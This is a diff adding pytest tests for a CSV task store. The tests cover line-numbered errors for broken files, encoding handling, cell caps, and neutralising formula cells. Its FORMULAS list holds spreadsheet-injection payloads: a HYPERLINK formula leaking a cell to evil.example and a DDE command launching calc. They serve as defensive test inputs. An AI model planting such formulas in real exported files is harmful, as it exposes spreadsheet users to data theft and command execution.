@@ -1,15 +1,31 @@
+import codecs
 import csv
+import io
 import os
 import random
 import signal
+import subprocess
+import sys
 import threading
 import time
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 
+from pipeline.cli import main
 from pipeline.errors import TaskFileError
-from pipeline.tasks import COLUMNS, TaskStore
+from pipeline.tasks import (
+    COLUMNS,
+    CUT_MARK,
+    FORMULA_STARTS,
+    MAX_CELL_CHARS,
+    MAX_TEXT_CHARS,
+    MAX_URL_CHARS,
+    TaskStore,
+)
+
+REPO = Path(__file__).resolve().parents[2]
 
 
 def make_store(path: Path, n: int) -> TaskStore:
@@ -205,3 +221,291 @@ def test_a_slow_save_spaces_the_next_ones(tmp_path: Path, monkeypatch: pytest.Mo
     time.sleep(store.save_interval)
     assert store.save_if_due()
     assert TaskStore(tmp_path / "tasks.csv").get(1).status == "localized"
+
+
+# -- a file that does not parse is never rewritten ------------------------------------------------
+
+
+@pytest.fixture
+def csv_limit() -> Iterator[None]:
+    """The csv module's field limit is process-wide: put back whatever a test set."""
+    before = csv.field_size_limit()
+    yield
+    csv.field_size_limit(before)
+
+
+def kuaibu_file(path: Path, n: int = 5) -> str:
+    """tasks.csv as Kuaibu writes it, task k titled "Tk" (line k + 1), as text to break."""
+    store = make_store(path, n)
+    for k in range(1, n + 1):
+        store.update(k, title=f"T{k}", status="fetched")
+    store.save()
+    return path.read_bytes().decode("utf-8-sig")
+
+
+def assert_never_rewritten(path: Path, message: str) -> None:
+    """Loading fails naming the line, and neither the load nor a command that saves (``add``)
+    changes a byte of the file."""
+    before = path.read_bytes()
+    with pytest.raises(TaskFileError, match=message) as caught:
+        TaskStore(path)
+    assert "\n" not in str(caught.value)  # one line, as the CLI and the window show it
+    assert path.read_bytes() == before
+    links = path.parent / "links.txt"
+    links.write_text("https://example.com/new\n", encoding="utf-8")
+    assert main(["add", str(links), "--archive", str(path.parent)]) == 1
+    assert path.read_bytes() == before
+
+
+def break_file(path: Path, text: str, old: str, new: str) -> None:
+    assert text.count(old) == 1
+    path.write_bytes(codecs.BOM_UTF8 + text.replace(old, new).encode("utf-8"))
+
+
+def test_unterminated_quote_names_its_line(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path)
+    break_file(path, text, ",T2,", ',"T2,')  # a hand edit opens a quote it never closes
+    assert_never_rewritten(path, r"line 3: a quoted cell in this row is never closed")
+
+
+def test_unterminated_quote_in_a_long_file_names_its_line(tmp_path: Path,
+                                                          csv_limit: None) -> None:
+    """Past MAX_CELL_CHARS the csv module stops before the end of the file: still the quote."""
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path, n=1500)  # about 200 KB after the quote
+    break_file(path, text, ",T2,", ',"T2,')
+    assert_never_rewritten(path, r"line 3: a cell starting in this row runs past line \d+"
+                                 r" and 100,000 characters: most likely a quote")
+
+
+def test_stray_quote_closed_rows_later_names_both_lines(tmp_path: Path) -> None:
+    """A second stray quote closes the first in the same column: the cell counts look right,
+    and rows 3 and 4 would silently become part of task 2's title."""
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path)
+    text = text.replace(",T4,", ',T4",')
+    break_file(path, text, ",T2,", ',"T2,')
+    assert_never_rewritten(path, r"line 3: a quoted cell opened here holds the row on line 4"
+                                 r" \('3,https://example.com/2,.*closed only on line 5")
+
+
+def test_text_after_a_closing_quote_names_its_line(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path)
+    break_file(path, text, ",T3,", ',"T3" tea,')  # non-strict csv would read 'T3 tea'
+    assert_never_rewritten(path, r"line 4: text after the closing quote")
+
+
+def test_row_cut_by_a_line_break_outside_quotes_names_its_lines(tmp_path: Path) -> None:
+    """Read as it stands, the two halves would be saved back as two wrong tasks."""
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path)
+    break_file(path, text, ",T2,", ",T2\r\npart two,")
+    assert_never_rewritten(path, rf"line 3: the row is cut in pieces by line breaks up to line 4"
+                                 rf" \(4 of its {len(COLUMNS)} cells here\)")
+
+
+@pytest.mark.parametrize("edit, spill", [
+    (lambda line: line.replace(",T2,", ",T2, with a comma,"), "''"),  # shifted; last cell empty
+    (lambda line: line + ",我的备注", "'我的备注'"),  # typed past the last column
+])
+def test_cells_past_the_header_name_their_line(tmp_path: Path, edit: Callable[[str], str],
+                                               spill: str) -> None:
+    path = tmp_path / "tasks.csv"
+    lines = kuaibu_file(path).split("\r\n")
+    lines[2] = edit(lines[2])
+    path.write_bytes(codecs.BOM_UTF8 + "\r\n".join(lines).encode("utf-8"))
+    assert_never_rewritten(path, rf"line 3: {len(COLUMNS) + 1} cells but the header has"
+                                 rf" {len(COLUMNS)}; cell {len(COLUMNS) + 1} \({spill}\)"
+                                 r" has no column")
+
+
+def test_empty_columns_without_a_name_are_not_data(tmp_path: Path) -> None:
+    """Excel's trailing commas, in the header too: nothing would be lost, so the file reads
+    (short rows are padded: a person may type just a URL)."""
+    path = tmp_path / "tasks.csv"
+    path.write_text("id,url,status,,\n1,https://a.com/,fetched,,\n2,https://b.com/,pending\n",
+                    encoding="utf-8")
+    store = TaskStore(path)
+    assert [t.status for t in store.tasks()] == ["fetched", "pending"]
+    assert store.columns[:3] == ["id", "url", "status"] and "" not in store.columns
+    store.save()
+    assert len(TaskStore(path)) == 2
+
+
+@pytest.mark.parametrize("header, message", [
+    ("id,url,note,note", r"line 1: columns 3 and 4 are both named 'note'"),
+    ("id,url,,", r"line 1: columns 3 and 4 have no name but hold cells"),
+])
+def test_header_a_save_would_lose_cells_by(tmp_path: Path, header: str, message: str) -> None:
+    path = tmp_path / "tasks.csv"
+    path.write_text(f"{header}\n1,https://a.com/,读过,好\n", encoding="utf-8")
+    assert_never_rewritten(path, message)
+
+
+def test_undecodable_bytes_name_their_line(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path)
+    data = codecs.BOM_UTF8 + text.replace(",T3,", ",T3 _,").encode("utf-8")
+    path.write_bytes(data.replace(b"T3 _", b"T3 \xff"))  # neither UTF-8 nor GB18030
+    assert_never_rewritten(path, r"line 4: byte 0xFF is neither UTF-8 nor GB18030 text")
+
+
+def test_utf16_without_a_byte_order_mark_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    path.write_bytes("id,url\r\n1,https://a.com/\r\n".encode("utf-16-le"))
+    assert_never_rewritten(path, r"line 1: the file holds NUL characters")
+
+
+@pytest.mark.parametrize("codec, bom, sep", [
+    ("utf-16-le", codecs.BOM_UTF16_LE, "\t"),  # Excel's "Unicode text": tab-separated
+    ("utf-16-be", codecs.BOM_UTF16_BE, ","),
+])
+def test_utf16_with_a_byte_order_mark_is_read(tmp_path: Path, codec: str, bom: bytes,
+                                              sep: str) -> None:
+    path = tmp_path / "tasks.csv"
+    rows = [["id", "url", "cat1", "title", "我的备注"],
+            ["1", "https://a.com/", "科技", 'a, "b"\tc', "读过"],
+            ["", "https://b.com/x", "", "", ""]]
+    buf = io.StringIO(newline="")
+    csv.writer(buf, delimiter=sep, lineterminator="\r\n").writerows(rows)
+    path.write_bytes(bom + buf.getvalue().encode(codec))
+    store = TaskStore(path)
+    t = store.get(1)
+    assert (t.url, t.cat1, t.title, t.extra) == ("https://a.com/", "科技", 'a, "b"\tc',
+                                                  {"我的备注": "读过"})
+    assert store.get(2).url == "https://b.com/x"
+    assert store.save_if_due()  # converted: Kuaibu writes UTF-8 CSV
+    assert path.read_bytes().startswith(codecs.BOM_UTF8 + b"id,url,")
+    assert TaskStore(path).tasks() == store.tasks()
+
+
+def test_gb18030_file_is_read(tmp_path: Path) -> None:
+    """Characters GBK lacks (four bytes in GB18030) too, e.g. the 𠮷 of 𠮷野家."""
+    path = tmp_path / "tasks.csv"
+    with pytest.raises(UnicodeEncodeError):
+        "𠮷".encode("gbk")
+    path.write_bytes("id,url,cat1\r\n1,https://a.com/,𠮷野家\r\n".encode("gb18030"))
+    assert TaskStore(path).get(1).cat1 == "𠮷野家"
+
+
+@pytest.mark.parametrize("module_limit", [None, sys.maxsize])
+def test_oversize_cell_written_elsewhere_names_its_line(
+    tmp_path: Path, csv_limit: None, module_limit: int | None
+) -> None:
+    """Whether the csv module's limit stops it (as Kuaibu sets it) or another user of csv has
+    raised that limit and Kuaibu's own check does: one line naming it, no ``_csv.Error``."""
+    if module_limit is not None:
+        csv.field_size_limit(module_limit)
+    path = tmp_path / "tasks.csv"
+    path.write_text("id,url,title\r\n1,https://a.com/,ok\r\n2,https://b.com/,"
+                    + "长" * 140_000 + "\r\n", encoding="utf-8")
+    assert_never_rewritten(path, rf"line 3: .*{MAX_CELL_CHARS:,}")
+
+
+# -- cells are bounded and inert ------------------------------------------------------------------
+
+
+def test_a_140_kb_title_is_capped_and_the_file_reads_back(tmp_path: Path,
+                                                          csv_limit: None) -> None:
+    path = tmp_path / "tasks.csv"
+    store = make_store(path, 2)
+    huge = "标题" * 70_000
+    store.update(1, title=huge, extracted_title=huge, error="Traceback " * 14_000)
+    store.mutate(2, lambda t: setattr(t, "extracted_title", huge))
+    exact = "x" * MAX_TEXT_CHARS
+    store.add("https://example.com/exact", title=exact)
+    store.save()
+    t = store.get(1)
+    for text in (t.title, t.extracted_title, t.error, store.get(2).extracted_title):
+        assert len(text) == MAX_TEXT_CHARS and text.endswith(CUT_MARK)
+    assert t.title == huge[: MAX_TEXT_CHARS - 1] + CUT_MARK
+    assert store.get(3).title == exact  # at the limit: not cut
+    assert path.stat().st_size < 20_000
+    csv.field_size_limit(131_072)  # Python's default: any csv reader reads what Kuaibu wrote
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        assert len(list(csv.reader(f))) == 4
+    assert TaskStore(path).tasks() == store.tasks()
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1", "-2+3", "\t=1+1", "\r=1+1", "'=really starts with a quote", "''", "'", "'tis",
+    "=", "plain 标题",
+]
+
+
+def test_formula_cells_are_written_inert_and_read_back_exactly(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    make_store(path, len(FORMULAS))
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        rows = list(csv.reader(f))
+    rows[0].append("=note")  # a person's column, its name a formula too
+    for row in rows[1:]:
+        row.append("")
+    with open(path, "w", encoding="utf-8-sig", newline="") as f:
+        csv.writer(f).writerows(rows)
+    store = TaskStore(path)
+    for k, text in enumerate(FORMULAS, start=1):
+        store.update(k, title=text, extracted_title=text, error=text, cat1=text,
+                     extra={"=note": text})
+    store.save()
+
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        written = list(csv.reader(f))
+    assert all(cell[:1] not in FORMULA_STARTS for row in written for cell in row)
+    header = written[0]
+    assert header[-1] == "'=note"
+    titles = [row[header.index("title")] for row in written[1:]]
+    assert titles[0] == "'" + FORMULAS[0]
+    assert titles[6:10] == ["''=really starts with a quote", "'''", "'", "'tis"]
+    again = TaskStore(path)
+    assert again.columns[-1] == "=note"
+    assert again.tasks() == store.tasks()
+    for k, text in enumerate(FORMULAS, start=1):
+        t = again.get(k)
+        assert (t.title, t.extracted_title, t.error, t.cat1) == (text,) * 4
+        assert t.extra == {"=note": text}
+
+
+def test_guarded_cells_typed_by_a_person_are_read_as_meant(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    path.write_text("id,url,title,cat1\r\n1,https://a.com/,'=1+1,'tis\r\n", encoding="utf-8")
+    t = TaskStore(path).get(1)
+    assert (t.title, t.cat1) == ("=1+1", "'tis")
+
+
+def test_a_typed_in_url_too_long_fails_with_the_reason(tmp_path: Path) -> None:
+    path = tmp_path / "tasks.csv"
+    long_url = "https://example.com/" + "茶" * 1_000  # 1,020 characters, 9,020 percent-encoded
+    path.write_text(f"url\r\nhttps://example.com/ok\r\n{long_url}\r\n", encoding="utf-8")
+    store = TaskStore(path)
+    t = store.get(2)
+    assert t.status == "failed"
+    assert t.error == (f"link is {20 + 9 * 1_000:,} characters long once percent-encoded;"
+                       f" the longest taken is {MAX_URL_CHARS:,}")
+    with pytest.raises(ValueError, match="longest taken"):
+        store.add("https://example.com/" + "x" * MAX_URL_CHARS)
+    store.save()
+    assert TaskStore(path).get(2).original_url == long_url
+
+
+def test_status_on_a_corrupt_task_list_via_main_py(tmp_path: Path) -> None:
+    """`python main.py status` as a person runs it: one line, exit 1, the file as it was."""
+    path = tmp_path / "tasks.csv"
+    text = kuaibu_file(path)
+    break_file(path, text, ",T2,", ',"T2,')
+    before = path.read_bytes()
+    proc = subprocess.run(
+        [sys.executable, str(REPO / "main.py"), "status", "--archive", str(tmp_path)],
+        capture_output=True, timeout=60, text=True,
+    )
+    assert proc.returncode == 1
+    assert proc.stderr.splitlines() == [
+        f"error: {path}, line 3: a quoted cell in this row is never closed, so the rest of the"
+        ' file would be one cell; close it (a quote inside a cell is written "" and a cell'
+        " holding one is put in quotes)"
+    ]
+    assert proc.stdout == ""
+    assert path.read_bytes() == before
